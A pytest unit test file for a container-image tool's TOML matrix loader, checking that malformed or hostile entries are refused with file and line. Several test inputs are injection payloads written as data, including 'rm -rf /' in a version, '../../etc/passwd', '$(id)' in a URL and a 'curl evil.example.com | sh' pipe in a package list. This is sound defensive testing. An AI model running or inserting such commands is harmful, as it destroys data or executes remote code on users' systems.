"""Loading matrix TOML: what it reads, and each thing it refuses with the file and line at fault.

Most tests edit a copy of the test matrix (the ``matrix_copy`` fixture of tests/unit/conftest.py) and load it.
"""

import pytest

from imagectl.errors import MatrixError
from imagectl.matrix.load import load_matrix

FLAVORS = 'flavors = ["runtime", "devel", "base"]'  # the fixture's [base] flavors line


def test_loads_fixture_matrix(matrix):
    torch = matrix.frameworks["torch"]
    assert [r.version for r in torch.releases] == ["2.7.1", "2.3.1", "2.3.0"]
    assert matrix.cuda["12.1"].min_driver == "530.30.02"
    assert matrix.os["ubuntu24.04"].python == "3.12"
    assert dict(torch.releases[1].companions) == {"torchaudio": "2.3.1", "torchvision": "0.18.1"}


def test_later_directory_adds_and_overrides(test_matrix_dir, tmp_path):
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "torch-local.toml").write_text(open(test_matrix_dir / "torch.toml").read().split("[[release]]")[0] + """
[[release]]
version = "2.3.1"
python = ["3.11"]
  [[release.variant]]
  cuda = "12.1"
  cudnn = "8.9.2.26"
  nccl = "2.20.5"
[[release]]
version = "2.4.0"
python = ["3.11"]
  [[release.variant]]
  cuda = "12.1"
""")
    m = load_matrix([test_matrix_dir, extra])
    versions = [r.version for r in m.frameworks["torch"].releases]
    assert versions == ["2.7.1", "2.4.0", "2.3.1", "2.3.0"]
    assert m.frameworks["torch"].releases[2].python == ("3.11",)


@pytest.mark.parametrize(
    "old, new, message",
    [
        ('cudnn = "8.9.2.26"', 'cudnn = "eight"',
         r"torch.toml:\d+: release 2.3.1 cuda 12.1 cudnn: 'eight' is not a PEP 440"),
        ('version = "2.3.1"', 'version = "2.3.1; rm -rf /"', "release version"),
        ('python = ["3.8", "3.9", "3.10", "3.11", "3.12"]', 'python = ["3.8", "three"]', "is not a Python version"),
        ('check = "torch"', 'check = "../../etc/passwd"', "framework check"),
        ('index_url = "https://download.pytorch.org/whl/{cuda_tag}"', 'index_url = "https://x/$(id)"',
         "framework index_url"),
        ('cuda_tag = "cu{major}{minor}"', 'cuda_tag = "cu{patch}"', "cuda_tag"),
        ('"nvidia-nccl-cu12" = "2.20.5", "triton"', '"nvidia nccl" = "2.20.5", "triton"', "pins"),
        ('[[release.variant]]\n  cuda = "11.8"', '[[release.variant]]\n  cuda = "11.8"\n  pypi = true',
         "more than one variant has pypi"),
        ("[framework]", "[frame]", "unknown top-level key 'frame'"),
    ],
)
def test_schema_errors_name_file_and_line(matrix_copy, old, new, message):
    matrix_copy.edit("torch.toml", old, new)
    matrix_copy.refused(message)


def test_malformed_toml_gives_line(matrix_copy):
    matrix_copy.write("cuda.toml", '[base]\nrepository = "nvidia/cuda"\nflavors = [\n')
    matrix_copy.refused(r"cuda.toml:\d+: invalid TOML")


def test_cuda_errors(matrix_copy):
    matrix_copy.edit("cuda.toml", 'min_driver = "530.30.02"', 'min_driver = "latest"')
    matrix_copy.refused(r"cuda.toml:\d+: \[cuda.12.1\] min_driver")


def test_missing_directory_and_missing_base(tmp_path):
    with pytest.raises(MatrixError, match="not found"):
        load_matrix([tmp_path / "nope"])
    with pytest.raises(MatrixError, match="no matrix file declares \\[base\\]"):
        load_matrix([tmp_path])


def test_undeclared_cuda_or_os_is_an_error(matrix_copy):
    matrix_copy.edit("torch.toml", 'cuda = "11.8"', 'cuda = "11.7"')
    matrix_copy.refused(r"torch.toml:\d+: torch 2.3.1 names CUDA 11.7, which no \[cuda\] table declares")
    matrix_copy.edit("cuda.toml", 'os = ["ubuntu22.04", "ubuntu24.04"]', 'os = ["rhel9"]')
    matrix_copy.refused("os 'rhel9' is not declared")


def refused_at(matrix_copy, name, old, new, message, at=None):
    """Edit ``old`` to ``new`` in matrix file ``name`` and see the load refused with ``message`` (a regex) at
    ``name`` and the line of ``at`` (by default the first line of ``new``)."""
    matrix_copy.edit(name, old, new)
    matrix_copy.refused(rf"{name}:{matrix_copy.line_of(name, at or new.splitlines()[0])}: {message}")


@pytest.mark.parametrize("name, old, new, typo, table, nearest", [
    ("torch.toml", '  pins = { "nvidia-cuda-runtime-cu12"', '  pin = { "nvidia-cuda-runtime-cu12"', "pin",
     r"\[\[release.variant\]\] of release 2.3.1", "did you mean 'pins'"),
    ("torch.toml", '  cudnn = "8.7.0.84"', '  cudn = "8.7.0.84"', "cudn",
     r"\[\[release.variant\]\] of release 2.3.1", "did you mean 'cudnn'"),
    ("torch.toml", 'python = ["3.9", "3.10", "3.11", "3.12", "3.13"]', 'pyhton = ["3.9", "3.10"]', "pyhton",
     r"\[\[release\]\] 2.7.1", "did you mean 'python'"),
    ("torch.toml", 'check = "torch"', 'check = "torch"\nchecks = "torch"', "checks", r"\[framework\]",
     "did you mean 'check'"),
    ("cuda.toml", 'tag = "{cuda_release}-{flavor}-{os}"', 'tag = "{cuda_release}-{flavor}-{os}"\ntags = "x"', "tags",
     r"\[base\]", "did you mean 'tag'"),
    ("cuda.toml", 'apt_python = ["3.12"]', 'apt_pythons = ["3.12"]', "apt_pythons", r"\[os.ubuntu24.04\]",
     "did you mean 'apt_python'"),
    ("cuda.toml", 'release = "12.8.1"', 'release = "12.8.1"\nzzz = 1', "zzz", r"\[cuda.12.8\]",
     "known: archs, end_of_life, eol_since, forward_compat"),
])
def test_unknown_keys_in_nested_tables_name_line_and_nearest_key(matrix_copy, name, old, new, typo, table, nearest):
    matrix_copy.edit(name, old, new)
    line = matrix_copy.line_of(name, f"{typo} =")
    matrix_copy.refused(rf"{name}:{line}: unknown key '{typo}' in {table} \({nearest}")


def test_an_unknown_key_before_the_version_is_found_in_its_own_release(matrix_copy):
    matrix_copy.edit("torch.toml", '[[release]]\nversion = "2.3.0"', '[[release]]\npin = 1\nversion = "2.3.0"')
    matrix_copy.refused(rf"torch.toml:{matrix_copy.line_of('torch.toml', 'pin = 1')}: unknown key 'pin'")


def test_a_misspelt_sub_table_is_an_unknown_key(matrix_copy):
    pins = '  pins = { "nvidia-cudnn-cu12" = "9.7.1.26", "nvidia-nccl-cu12" = "2.26.2" }'
    matrix_copy.edit("torch.toml", pins, '  [release.variant.pin]\n  "nvidia-nccl-cu12" = "2.26.2"')
    line = matrix_copy.line_of("torch.toml", "[release.variant.pin]")
    matrix_copy.refused(rf"torch.toml:{line}: unknown key 'pin' .*did you mean 'pins'")


@pytest.mark.parametrize("tag, message", [
    ("{nope}", r"\[base\] tag '\{nope\}' uses \{nope\}; it may only use \{cuda_release\}, \{cuda\}, \{flavor\}"),
    ("{", r"\[base\] tag '\{': Single '\{' encountered"),
    ("{cuda}-}", r"\[base\] tag .*Single '\}'"),
    ("{0}", r"\[base\] tag .* uses \{0\}"),
    ("{os.__class__}", r"\[base\] tag .* uses \{os.__class__\}"),
    ("{os!r}", r"\[base\] tag .* uses \{os!r\}"),
    ("{os:>999999999}", r"\[base\] tag .* uses \{os:>999999999\}"),
    ("{cuda_release} {os}", r"\[base\] tag .* makes no valid reference: invalid image tag '12.1.1 ubuntu22.04'"),
])
def test_base_tag_may_only_use_its_placeholders(matrix_copy, tag, message):
    refused_at(matrix_copy, "cuda.toml", 'tag = "{cuda_release}-{flavor}-{os}"', f"tag = '{tag}'", message)


def test_a_literal_brace_pair_in_the_base_tag_is_fine_when_the_tag_stays_valid(matrix_copy):
    matrix_copy.edit("cuda.toml", 'tag = "{cuda_release}-{flavor}-{os}"', 'tag = "{cuda_release}-{flavor}-{{os}}"')
    matrix_copy.refused(r"invalid image tag '12.1.1-runtime-\{os\}'")


def test_wheel_cuda_flavor_is_read(test_matrix_dir, matrix_copy):
    matrix_copy.edit("cuda.toml", FLAVORS, f'{FLAVORS}\nwheel_cuda_flavor = "base"')
    base = matrix_copy.load().base
    assert base.wheel_cuda_flavor == "base" and base.flavors == ("runtime", "devel", "base")
    assert load_matrix([test_matrix_dir]).base.wheel_cuda_flavor is None


@pytest.mark.parametrize("value, message", [
    ('"slim"', r"wheel_cuda_flavor 'slim' must be one of flavors after the first \(devel, base\)"),
    ('"runtime"', r"wheel_cuda_flavor 'runtime' must be one of flavors after the first"),  # the no-wheel default
    ("1", r"wheel_cuda_flavor 1 must be one of flavors after the first"),
])
def test_wheel_cuda_flavor_must_be_a_flavor_other_than_the_first(matrix_copy, value, message):
    refused_at(matrix_copy, "cuda.toml", FLAVORS, f"{FLAVORS}\nwheel_cuda_flavor = {value}", rf"\[base\] {message}",
               at="wheel_cuda_flavor")


@pytest.mark.parametrize("pattern, message", [
    ("cu{major}{minor}{patch}", r"cuda_tag .* uses \{patch\}"),
    ("cu{major:>99999}", r"cuda_tag .* uses \{major:>99999\}"),
    ("cu{major}_{minor}", r"cuda_tag 'cu\{major\}_\{minor\}' makes: 'cu12_1' is not letters then digits"),
    ("{major}{minor}", r"cuda_tag .* makes: '121' is not letters then digits"),
])
def test_cuda_tag_must_make_a_tag_profile_names_can_carry(matrix_copy, pattern, message):
    refused_at(matrix_copy, "torch.toml", 'cuda_tag = "cu{major}{minor}"', f'cuda_tag = "{pattern}"', message)


@pytest.mark.parametrize("name", ["main", "libraries", "torch_compile", "cuda_toolchain"])
def test_the_shared_check_partials_are_reserved(matrix_copy, name):
    matrix_copy.edit("torch.toml", 'check = "torch"', f'check = "{name}"')
    matrix_copy.refused(rf"torch.toml:9: framework check '{name}' is reserved")


def test_deeply_nested_toml_is_an_error_with_a_line(matrix_copy):
    matrix_copy.write("deep.toml", '# deep\n[gpus]\n"X" = "sm_90"\nx = ' + "[" * 3000 + "]" * 3000 + "\n")
    matrix_copy.refused(r"deep.toml:4: invalid TOML: arrays or tables nested too deeply")


@pytest.mark.parametrize("version", ["2.3.1-1", "2.3.1-rc1", "1!2.3.1", "2.3.1.post1" + "0" * 60])
def test_release_versions_that_cannot_be_in_an_immutable_tag_are_refused(matrix_copy, version):
    refused_at(matrix_copy, "torch.toml", 'version = "2.3.0"', f'version = "{version}"',
               "release version: .* cannot be part of an image tag")


@pytest.mark.parametrize("version", ["2.3.2rc1", "2.3.2.post1", "2.3.2+cu121", "2.3.2.dev20240101"])
def test_release_versions_that_make_immutable_tags_load(matrix_copy, version):
    import re

    from imagectl.matrix.names import RELEASE_VERSION

    matrix_copy.edit("torch.toml", 'version = "2.3.0"', f'version = "{version}"')
    assert version in [r.version for r in matrix_copy.load().frameworks["torch"].releases]
    # the immutable-tag scheme of imagectl.tags.naming carries the version part as [0-9][0-9A-Za-z.+_]*
    assert re.fullmatch(RELEASE_VERSION, version) and re.fullmatch(r"[0-9][0-9A-Za-z.+_]*", version.replace("+", "_"))


@pytest.mark.parametrize("file, old, new, message", [
    ("torch.toml", 'name = "torch"', 'name = "tor.ch"', r"framework name: 'tor.ch' is not a lower-case name"),
    ("torch.toml", 'name = "torch"', 'name = "tor-ch"', r"framework name: 'tor-ch' is not a lower-case name"),
    ("torch.toml", 'name = "torch"', 'name = "1torch"', r"framework name: '1torch' is not"),
    ("cuda.toml", FLAVORS, 'flavors = ["runtime", "cudnn-devel"]',
     r"\[base\] flavor: 'cudnn-devel' is not a lower-case name of \[a-z0-9.\]"),
    ("cuda.toml", FLAVORS, 'flavors = ["runtime", "py3.11"]', r"\[base\] flavor: 'py3.11' is"),
    ("cuda.toml", '[os."ubuntu24.04"]', '[os."ubuntu_24.04"]', r"OS name: 'ubuntu_24.04' is not"),
])
def test_names_that_would_be_listed_but_not_resolve_are_refused(matrix_copy, file, old, new, message):
    refused_at(matrix_copy, file, old, new, message)


def test_a_flavor_named_like_an_os_is_refused(matrix_copy):
    matrix_copy.edit("cuda.toml", FLAVORS, 'flavors = ["runtime", "ubuntu24.04"]')
    matrix_copy.refused("flavor 'ubuntu24.04' is also an OS name")


def test_every_listed_name_resolves(shipped_matrix, matrix):
    from imagectl.matrix.names import list_profiles, resolve_profile

    for m in (shipped_matrix, matrix):
        for profile in list_profiles(m):
            assert resolve_profile(profile.name, m) == profile


JIT_LINE = 'jit_packages = ["gcc", "g++", "python{python}-dev"]'


def test_jit_packages_load_as_patterns_and_default_to_none(matrix, shipped_matrix, matrix_copy):
    assert matrix.frameworks["torch"].jit_packages == ("gcc", "g++", "python{python}-dev")
    assert shipped_matrix.frameworks["torch"].jit_packages == ("gcc", "g++", "python{python}-dev")
    assert shipped_matrix.frameworks["jax"].jit_packages == ()  # XLA needs no host compiler
    matrix_copy.edit("torch.toml", JIT_LINE + "\n", "")
    assert matrix_copy.load().frameworks["torch"].jit_packages == ()


@pytest.mark.parametrize("value, message", [
    ('"gcc"', "jit_packages must be a list of strings"),
    ('["gcc", 3]', "jit_packages must be a list of strings"),
    ('["gcc; curl evil.example.com | sh"]', "is not a Debian package name"),
    ('["gcc\\nRUN curl evil"]', "is not a Debian package name"),
    ('["g++=4:12.2.0-3"]', "is not a Debian package name"),
    ('["--allow-unauthenticated"]', "is not a Debian package name"),
    ('["G++"]', "is not a Debian package name"),
    ('["libc{os}-dev"]', r"uses \{os\}; it may only use \{python\}"),
    ('["python{python!r}-dev"]', r"uses \{python!r\}"),
    ('["python{0}-dev"]', r"uses \{0\}"),
    ('["python{python"]', "write a literal brace"),
])
def test_bad_jit_packages_are_refused_with_file_and_line(matrix_copy, value, message):
    path = matrix_copy.edit("torch.toml", JIT_LINE, f"jit_packages = {value}")
    error = matrix_copy.refused(message)
    assert str(error).startswith(f"{path}:{matrix_copy.line_of('torch.toml', 'jit_packages')}: ")


def test_a_misspelt_jit_packages_key_names_the_nearest(matrix_copy):
    matrix_copy.edit("torch.toml", JIT_LINE, JIT_LINE.replace("jit_packages", "jit_package"))
    matrix_copy.refused(r"unknown key 'jit_package' in \[framework\] \(did you mean 'jit_packages'")
